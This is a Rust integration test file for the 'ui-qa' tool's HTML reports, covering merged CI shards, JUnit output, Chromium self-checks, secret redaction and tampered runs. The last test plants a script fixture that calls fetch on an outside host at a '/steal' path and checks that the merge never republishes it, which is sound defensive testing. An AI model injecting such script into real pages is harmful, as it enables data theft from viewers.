//! Reports end to end through the `ui-qa` binary: each run's `report.html`,
//! the index after several flows, `ui-qa report` over CI shards, and —
//! ui-qa testing its own report — browser flows that open a failed
//! browser run's report and a terminal run's report in a real Chromium and
//! check that the steps, the failure, the video and the terminal replay are
//! really there.

mod common;

use common::{bin, root, run_json, walk, write};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A fast terminal flow that passes, or fails on its last step.
fn terminal_flow(dir: &Path, name: &str, pass: bool) -> PathBuf {
    let last = if pass {
        r#"{"action":"assertText","text":"ready"}"#
    } else {
        r#"{"action":"assertText","text":"never printed","timeoutMs":300}"#
    };
    write(
        dir,
        &format!("{name}.jsonc"),
        &format!(
            r#"{{"name":"{name}","target":{{"command":{{"argv":["sh","-c","echo {name} ready; sleep 5"]}}}},
                "steps":[{{"action":"waitForText","text":"{name} ready"}},{last}]}}"#
        ),
    )
}

/// Runs `ui-qa` with `args`; answers the exit code, stdout and stderr.
fn ui_qa(args: &[&std::ffi::OsStr], configure: impl FnOnce(&mut Command)) -> (i32, String, String) {
    let mut c = Command::new(bin());
    c.args(args);
    configure(&mut c);
    let o = c.output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn os(s: &str) -> &std::ffi::OsStr {
    s.as_ref()
}

/// Every relative `href` of an HTML page.
fn hrefs(html: &str) -> Vec<String> {
    html.split("href=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .filter(|h| !h.starts_with("data:") && !h.starts_with('#'))
        .map(str::to_string)
        .collect()
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[test]
fn shards_merge_into_one_index_and_one_junit() {
    let t = tempfile::tempdir().unwrap();
    let flows = t.path().join("flows");
    std::fs::create_dir(&flows).unwrap();
    let names = ["alpha", "bravo", "charlie", "delta"];
    for (i, n) in names.iter().enumerate() {
        terminal_flow(&flows, n, i != 2);
    }
    // Two CI shards, each in its own workspace.
    let mut workspaces = Vec::new();
    for shard in ["1/2", "2/2"] {
        let ws = t.path().join(format!("shard-{}", &shard[..1]));
        let (code, _, err) = ui_qa(
            &[
                os("run"),
                os("--shard"),
                os(shard),
                os("--workspace"),
                ws.as_os_str(),
                flows.as_os_str(),
            ],
            |_| {},
        );
        // Shard 1 runs alpha and charlie (fails); shard 2 bravo and delta.
        assert_eq!(code, if shard == "1/2" { 1 } else { 0 }, "{err}");
        // Each `ui-qa run` over several flows wrote its own index, linked
        // first in the tally, and every link of it resolves.
        let line = err
            .lines()
            .find(|l| l.trim_start().starts_with("report: file://") && l.contains("index.html"))
            .unwrap_or_else(|| panic!("no index link: {err}"));
        let index = PathBuf::from(line.trim().trim_start_matches("report: file://"));
        assert!(
            index.starts_with(ws.join("reports").canonicalize().unwrap()),
            "{index:?}"
        );
        #[cfg(unix)]
        {
            assert_eq!(mode(&index), 0o600);
            assert_eq!(mode(index.parent().unwrap()), 0o700);
        }
        let html = std::fs::read_to_string(&index).unwrap();
        let links = hrefs(&html);
        assert_eq!(
            links.iter().filter(|h| h.ends_with("report.html")).count(),
            2,
            "{links:?}"
        );
        for h in &links {
            assert!(
                index.parent().unwrap().join(h).is_file(),
                "{h} does not resolve"
            );
        }
        workspaces.push(ws);
    }
    // The same run downloaded twice is merged once; another run that
    // happens to have the same id (two machines, one `--run-id`) must not
    // clobber it.
    // A passing run (shard 1 also holds charlie's failed one; which comes
    // first in the directory is up to the file system).
    let first_run = std::fs::read_dir(workspaces[0].join("runs"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| !p.ends_with("latest"))
        .find(|p| {
            std::fs::read(p.join("result.json"))
                .ok()
                .and_then(|b| serde_json::from_slice::<Value>(&b).ok())
                .is_some_and(|r| r["status"] == "PASSED")
        })
        .unwrap();
    let copy_run = |to: &Path| {
        let copy = to.join(first_run.file_name().unwrap());
        for f in walk(&first_run) {
            let dst = copy.join(f.strip_prefix(&first_run).unwrap());
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(&f, &dst).unwrap();
        }
        copy
    };
    let again = t.path().join("downloaded-again");
    copy_run(&again);
    let other = t.path().join("other-machine");
    let other_run = copy_run(&other);
    let mut r: Value =
        serde_json::from_slice(&std::fs::read(other_run.join("result.json")).unwrap()).unwrap();
    r["durationMs"] = serde_json::json!(r["durationMs"].as_u64().unwrap() + 1);
    std::fs::write(other_run.join("result.json"), r.to_string()).unwrap();

    let out = t.path().join("merged");
    let (code, stdout, err) = ui_qa(
        &[
            os("report"),
            workspaces[0].as_os_str(),
            workspaces[1].as_os_str(),
            again.as_os_str(),
            other.as_os_str(),
            os("--output"),
            out.as_os_str(),
            os("--json"),
        ],
        |_| {},
    );
    assert_eq!(code, 1, "charlie failed: {err}");
    let index = out.join("index.html");
    assert!(
        err.contains(&format!("report: file://{}", index.display())),
        "{err}"
    );
    assert!(
        err.contains("is the same run as") && err.contains("merged once"),
        "{err}"
    );
    let summary: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(summary["runs"], 5, "{summary:#}");
    assert_eq!(summary["duplicates"].as_array().unwrap().len(), 1);
    assert_eq!(summary["failed"], 1);
    assert_eq!(summary["passed"], 4);
    assert_eq!(summary["status"], "FAILED");
    let dirs: Vec<&str> = summary["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["dir"].as_str().unwrap())
        .collect();
    let unique: std::collections::HashSet<_> = dirs.iter().collect();
    assert_eq!(unique.len(), 5, "{dirs:?}");
    assert!(dirs.iter().any(|d| d.ends_with("-2")), "{dirs:?}");

    // One index naming every flow, every link resolving inside the folder.
    let html = std::fs::read_to_string(&index).unwrap();
    for n in names {
        assert!(
            html.contains(&format!("<strong>{n}</strong>")),
            "{n} missing"
        );
    }
    assert!(html.contains("5 runs: 4 passed, 1 failed"), "{html}");
    let links = hrefs(&html);
    assert_eq!(
        links.iter().filter(|h| h.ends_with("/report.html")).count(),
        5
    );
    for h in &links {
        assert!(out.join(h).is_file(), "{h} does not resolve");
    }
    // Each copied report links its artifacts relatively, and they are there.
    for d in &dirs {
        let report = out.join(d).join("report.html");
        let page = std::fs::read_to_string(&report).unwrap();
        for h in hrefs(&page) {
            if h == "flow.jsonc"
                || h == "progress.jsonl"
                || h == "result.json"
                || h.starts_with("artifacts/")
            {
                assert!(out.join(d).join(&h).is_file(), "{d}/{h} does not resolve");
            }
        }
    }

    // One JUnit file that parses as XML with the right counts.
    let xml = std::fs::read_to_string(out.join("junit.xml")).unwrap();
    let doc = roxmltree::Document::parse(&xml).expect("junit.xml is XML");
    let suites: Vec<_> = doc
        .descendants()
        .filter(|n| n.has_tag_name("testsuite"))
        .collect();
    assert_eq!(suites.len(), 1);
    let cases = doc
        .descendants()
        .filter(|n| n.has_tag_name("testcase"))
        .count();
    assert_eq!(cases, 5, "one case per flow, not per step");
    let failures: Vec<_> = doc
        .descendants()
        .filter(|n| n.has_tag_name("failure"))
        .collect();
    assert_eq!(failures.len(), 1);
    let failed_case = failures[0]
        .ancestors()
        .find(|n| n.has_tag_name("testcase"))
        .unwrap();
    assert_eq!(failed_case.attribute("name"), Some("charlie"));
    let root_el = doc.root_element();
    assert_eq!(root_el.attribute("tests"), Some("5"));
    assert_eq!(root_el.attribute("failures"), Some("1"));
    #[cfg(unix)]
    {
        assert_eq!(mode(&index), 0o600);
        assert_eq!(mode(&out.join("junit.xml")), 0o600);
    }

    // The same output again is replaced (it is a report folder); only the
    // passing shard gives exit 0.
    let (code, _, err) = ui_qa(
        &[
            os("report"),
            workspaces[1].as_os_str(),
            os("--output"),
            out.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read_dir(out.join("runs")).unwrap().count(), 2);

    // Bad input is exit 2: nothing to merge, or a folder that is not ours.
    let empty = t.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    std::fs::write(empty.join("result.json.txt"), "{}").unwrap();
    let (code, _, err) = ui_qa(
        &[
            os("report"),
            empty.as_os_str(),
            os("--output"),
            t.path().join("o2").as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 2, "{err}");
    let (code, _, err) = ui_qa(
        &[
            os("report"),
            workspaces[1].as_os_str(),
            os("--output"),
            flows.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not empty"), "{err}");
    assert!(
        flows.join("alpha.jsonc").is_file(),
        "nothing of it was touched"
    );

    // An unreadable result is skipped with a warning naming it.
    let broken = t.path().join("broken/runs/x");
    std::fs::create_dir_all(&broken).unwrap();
    std::fs::write(broken.join("result.json"), "{ not json").unwrap();
    let (code, _, err) = ui_qa(
        &[
            os("report"),
            workspaces[1].as_os_str(),
            t.path().join("broken").as_os_str(),
            os("--output"),
            out.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("warning: skipped") && err.contains("broken/runs/x/result.json"),
        "{err}"
    );
}

#[test]
fn blocked_runs_merge_to_exit_3_and_their_report_hands_off() {
    let t = tempfile::tempdir().unwrap();
    let ws = t.path().join("ws");
    let (code, r) = run_json(
        &root().join("examples/desktop-calculator.jsonc"),
        &ws,
        &[],
        |c| {
            c.env_remove("DISPLAY").env_remove("WAYLAND_DISPLAY");
        },
    );
    assert_eq!(code, 3, "{r:#}");
    let report = Path::new(r["evidenceDir"].as_str().unwrap()).join("report.html");
    let html = std::fs::read_to_string(&report).unwrap();
    assert!(html.contains("Blocked: what a person must do"), "{html}");
    assert!(html.contains("--virtual-display"));
    let passing = t.path().join("passing");
    let flow = terminal_flow(t.path(), "echo", true);
    let (code, r) = run_json(&flow, &passing, &[], |_| {});
    assert_eq!(code, 0, "{r:#}");
    let (code, stdout, err) = ui_qa(
        &[
            os("report"),
            ws.as_os_str(),
            passing.as_os_str(),
            os("--output"),
            t.path().join("out").as_os_str(),
            os("--json"),
        ],
        |_| {},
    );
    assert_eq!(code, 3, "{err}");
    let v: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(v["status"], "BLOCKED");
    assert_eq!(
        (v["passed"].as_u64(), v["blocked"].as_u64()),
        (Some(1), Some(1))
    );
}

/// Runs a checking flow (a browser flow over a served run directory)
/// through the `ui-qa` binary and asserts it passed.
fn check_in_chromium(dir: &Path, name: &str, serve: &str, steps: &[Value]) {
    let flow = serde_json::json!({
        "name": name,
        "target": { "serve": serve, "url": "/report.html" },
        "steps": steps,
    });
    let path = write(dir, &format!("{name}.jsonc"), &flow.to_string());
    let (code, r) = run_json(&path, &dir.join("check-ws"), &[], |_| {});
    assert_eq!(code, 0, "{name}: {r:#}");
    // The report reached nothing but itself: the page's only request.
    let net = r["artifacts"]["logs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["path"].as_str().unwrap())
        .find(|p| p.ends_with("network.jsonl"));
    if let Some(net) = net {
        let log = std::fs::read_to_string(net).unwrap();
        for line in log.lines() {
            let v: Value = serde_json::from_str(line).unwrap_or(Value::Null);
            if let Some(url) = v["url"].as_str() {
                assert!(
                    url.ends_with("/report.html")
                        || url.starts_with("blob:")
                        || url.starts_with("data:"),
                    "{name}: the report requested {url}"
                );
            }
        }
    }
}

#[test]
fn ui_qa_checks_its_own_reports_in_chromium() {
    let t = tempfile::tempdir().unwrap();
    let dir = t.path();
    let ws = dir.join("ws");

    // (1) A failed browser run: the assertion says what it expected and
    // what it got.
    let site = dir.join("site");
    std::fs::create_dir(&site).unwrap();
    for e in std::fs::read_dir(root().join("examples/site"))
        .unwrap()
        .flatten()
    {
        std::fs::copy(e.path(), site.join(e.file_name())).unwrap();
    }
    let web = write(
        dir,
        "web-fails.jsonc",
        r#"{"name":"web form fails","target":{"serve":"site","url":"/index.html"},"steps":[
            {"action":"fill","locator":{"label":"Name"},"value":"Ada"},
            {"action":"click","locator":{"role":"button","name":"Send"}},
            {"action":"assertText","name":"greeting","locator":{"testId":"result"},"equals":"Hello Grace","timeoutMs":2000}]}"#,
    );
    let (code, web_run) = run_json(&web, &ws, &["--run-id", "web-failed"], |_| {});
    assert_eq!(code, 1, "{web_run:#}");
    let web_dir = PathBuf::from(web_run["evidenceDir"].as_str().unwrap());
    let report = web_dir.join("report.html");
    assert!(report.is_file());
    #[cfg(unix)]
    assert_eq!(mode(&report), 0o600);

    // (2) A terminal run whose replay must show a known line.
    let tui = write(
        dir,
        "marker.jsonc",
        r#"{"name":"replay marker","target":{"command":{"argv":["sh","-c","printf 'REPLAY-MARKER-42\\n'; sleep 5"]}},
            "steps":[{"action":"waitForText","text":"REPLAY-MARKER-42"}]}"#,
    );
    let (code, tui_run) = run_json(&tui, &ws, &["--run-id", "tui-marker"], |_| {});
    assert_eq!(code, 0, "{tui_run:#}");

    // The browser run's report: steps, the failure, and the video playing.
    let mut steps = vec![
        serde_json::json!({"action":"assertText","locator":{"testId":"run-status"},"equals":"FAILED"}),
        serde_json::json!({"action":"assertText","locator":{"testId":"step-1"},"regex":r#"^1\s+fill\s+label="Name"\s+"Ada"\s+flow\.jsonc:2\s+passed\s"#}),
        serde_json::json!({"action":"assertText","locator":{"testId":"step-2"},"regex":r#"^2\s+click\s+role=button name="Send"\s+flow\.jsonc:3\s+passed\s"#}),
        serde_json::json!({"action":"assertText","locator":{"testId":"step-3"},"regex":r#"^3\s+assertText\s+testId="result"\s+"Hello Grace"\s+flow\.jsonc:4\s+greeting\s+failed\s.*\d(\.\d)? (ms|s)"#}),
        serde_json::json!({"action":"assertText","locator":{"testId":"failure-3"},"regex":r#"Expected\s+text equals "Hello Grace""#}),
        serde_json::json!({"action":"assertText","locator":{"testId":"failure-3"},"regex":r#"Received\s+"Hello Ada"#}),
        serde_json::json!({"action":"assertText","locator":{"testId":"why-selected"},"includes":"browser"}),
    ];
    // The browser run recorded a WebM of the page: the report embeds it
    // and it plays.
    let has_webm = web_run["artifacts"]["videos"]
        .as_array()
        .unwrap()
        .iter()
        .any(|a| a["path"].as_str().unwrap().ends_with(".webm"));
    assert!(
        has_webm,
        "the browser run has a video: {:#}",
        web_run["artifacts"]
    );
    steps.extend([
        serde_json::json!({"action":"assertText","locator":{"testId":"video-time"},"equals":"0.0 s"}),
        serde_json::json!({"action":"click","locator":{"role":"button","name":"Play"}}),
        serde_json::json!({"action":"assertText","locator":{"testId":"video-time"},"regex":r"^(0\.[1-9]|[1-9]\d*\.\d) s$","timeoutMs":10000}),
    ]);
    check_in_chromium(dir, "check-web-report", "ws/runs/web-failed", &steps);

    // The terminal run's report: the replay player renders the recording's
    // last screen as text.
    check_in_chromium(
        dir,
        "check-terminal-report",
        "ws/runs/tui-marker",
        &[
            serde_json::json!({"action":"assertText","locator":{"testId":"run-status"},"equals":"PASSED"}),
            serde_json::json!({"action":"assertText","locator":{"testId":"step-1"},"regex":r#"^1\s+waitForText\s+"REPLAY-MARKER-42"\s+flow\.jsonc:2\s+passed\s"#}),
            serde_json::json!({"action":"assertText","locator":{"testId":"replay"},"includes":"REPLAY-MARKER-42","timeoutMs":10000}),
        ],
    );
}

/// A full-screen terminal program's report shows the screen the steps
/// saw. nano draws on the alternate screen and leaves it when cleanup
/// hangs it up, so the recording's end is an empty primary screen (and
/// nano's "Received SIGHUP"): the replay's poster is where the driver
/// marked the steps' end, and it shows nano's text in a real Chromium when
/// the page opens.
#[cfg(unix)]
#[test]
fn a_full_screen_programs_replay_shows_the_screen_the_steps_saw() {
    let t = tempfile::tempdir().unwrap();
    let dir = t.path();
    let flow = write(
        dir,
        "nano.jsonc",
        r#"{"name":"nano replay","target":{"command":{"argv":["nano","--ignorercfiles","notes.txt"]}},
            "viewport":{"cols":80,"rows":24},
            "steps":[{"action":"waitForText","text":"notes.txt","timeoutMs":15000},
                     {"action":"sendText","text":"Hello from nano"},
                     {"action":"waitForText","text":"Hello from nano"}]}"#,
    );
    let (code, run) = run_json(&flow, &dir.join("ws"), &["--run-id", "nano"], |_| {});
    assert_eq!(code, 0, "{run:#}");
    // The recording itself ends after nano left its alternate screen.
    let cast = run["artifacts"]["videos"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["path"].as_str())
        .find(|p| p.ends_with(".cast"))
        .expect("a terminal replay");
    let text = std::fs::read_to_string(cast).unwrap();
    let alt_off = text
        .rfind("?1049l")
        .expect("nano left its alternate screen");
    assert!(
        !text[alt_off..].contains("Hello from nano"),
        "nothing after it redraws the text"
    );
    check_in_chromium(
        dir,
        "check-nano-replay",
        "ws/runs/nano",
        &[
            serde_json::json!({"action":"assertText","locator":{"testId":"run-status"},"equals":"PASSED"}),
            serde_json::json!({"action":"assertText","locator":{"testId":"replay"},"includes":"Hello from nano","timeoutMs":10000}),
            serde_json::json!({"action":"assertText","locator":{"testId":"replay"},"includes":"GNU nano"}),
        ],
    );
    // The driver marked where the steps ended, and the caption says so.
    assert!(text.contains(r#""m","steps ended"]"#), "{text}");
    let html = std::fs::read_to_string(dir.join("ws/runs/nano/report.html")).unwrap();
    assert!(
        html.contains("The screen when the steps ended"),
        "the caption says which screen is shown"
    );
}

/// A secret that is also text of the report's own script (a phrase of the
/// vendored replay player, which only the report contains) does not take
/// the report away: the page is redacted whole, so no byte of the secret is
/// in it, and a note says the page's own script was redacted.
#[test]
fn a_report_holding_a_secret_is_redacted_whole_with_a_note() {
    let t = tempfile::tempdir().unwrap();
    let flow = terminal_flow(t.path(), "quiet", true);
    let ws = t.path().join("ws");
    let secret = "var AsciinemaPlayer=function";
    let (code, out, err) = ui_qa(
        &[
            os("run"),
            os("--json"),
            os("--workspace"),
            ws.as_os_str(),
            flow.as_os_str(),
        ],
        |c| {
            c.env("UI_QA_SECRET_PLAYER", secret);
        },
    );
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    let dir = PathBuf::from(r["evidenceDir"].as_str().unwrap());
    assert!(dir.join("result.json").is_file());
    let html = std::fs::read_to_string(dir.join("report.html")).expect("the report is kept");
    assert!(!html.contains(secret), "the report holds the secret");
    assert!(html.contains("[REDACTED]"));
    assert!(
        r["observations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o["message"]
                .as_str()
                .unwrap()
                .contains("own style or script")),
        "{r:#}"
    );
    assert!(err.contains("own style or script"), "{err}");
    // Without the secret the same run has its report.
    let (code, out, err) = ui_qa(
        &[
            os("run"),
            os("--json"),
            os("--workspace"),
            ws.as_os_str(),
            flow.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    let report = Path::new(r["evidenceDir"].as_str().unwrap()).join("report.html");
    assert!(report.is_file());
    assert!(
        err.contains(&format!("report: file://{}", report.display())),
        "{err}"
    );
}

/// A downloaded run anyone could have tampered with: its `report.html`
/// replaced by a page with a script, an HTML file and an SVG added among
/// its artifacts. `ui-qa report` copies none of them; the run's report in
/// the merged folder is written anew from its `result.json`.
#[test]
fn a_tampered_run_is_never_republished_as_html() {
    let t = tempfile::tempdir().unwrap();
    let flows = t.path().join("flows");
    std::fs::create_dir(&flows).unwrap();
    let flow = terminal_flow(&flows, "tampered", true);
    let ws = t.path().join("ws");
    let (code, _, err) = ui_qa(
        &[
            os("run"),
            os("--run-id"),
            os("r1"),
            os("--workspace"),
            ws.as_os_str(),
            flow.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 0, "{err}");
    let run = ws.join("runs/r1");
    let evil = "<script>fetch('http://198.51.100.7/steal')</script>TAMPERED";
    std::fs::write(run.join("report.html"), evil).unwrap();
    std::fs::create_dir_all(run.join("artifacts/logs")).unwrap();
    std::fs::write(run.join("artifacts/logs/evil.html"), evil).unwrap();
    std::fs::write(run.join("artifacts/logs/evil.SVG"), evil).unwrap();

    let out = t.path().join("out");
    let (code, _, err) = ui_qa(
        &[
            os("report"),
            ws.as_os_str(),
            os("--output"),
            out.as_os_str(),
        ],
        |_| {},
    );
    assert_eq!(code, 0, "{err}");
    let copy = out.join("runs/r1");
    let page = std::fs::read_to_string(copy.join("report.html")).unwrap();
    assert!(
        !page.contains("TAMPERED") && !page.contains("198.51.100.7"),
        "{page}"
    );
    assert!(page.contains("Written by ui-qa"), "{page}");
    assert!(page.contains("tampered"), "the run's own report: {page}");
    for f in ["artifacts/logs/evil.html", "artifacts/logs/evil.SVG"] {
        assert!(!copy.join(f).exists(), "{f} was copied");
    }
    // No file anywhere in the merged folder carries the page's script.
    for f in walk(&out) {
        if f.is_file() {
            let bytes = std::fs::read(&f).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains("198.51.100.7"),
                "{} carries the tampered page",
                f.display()
            );
        }
    }
}
